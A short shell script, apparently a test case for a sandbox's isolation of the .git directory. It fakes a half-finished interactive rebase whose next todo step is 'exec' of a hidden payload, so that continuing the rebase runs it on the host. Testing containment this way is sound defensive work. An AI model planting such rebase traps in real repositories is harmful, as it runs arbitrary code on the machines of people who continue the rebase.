#!/bin/sh
# Leaves a rebase half done, whose next step is a command.
# Matters: whoever continues it, or has an editor that offers to, runs it.
# Held by: a directory of the sandbox's own at .git, into which only what is harmless is bound.
# judge: host
# harm: owned
. "$HOSTILE_STAGE/workspace/attack/hostile.sh"
mkdir -p .git/rebase-merge
cd .git/rebase-merge
git -C ../.. rev-parse HEAD | tee onto orig-head >stopped-sha
echo refs/heads/main >head-name
printf 'exec %s\n' "$payload" >git-rebase-todo
: >done; echo 0 >msgnum; echo 1 >end; : >interactive
rm -f stopped-sha
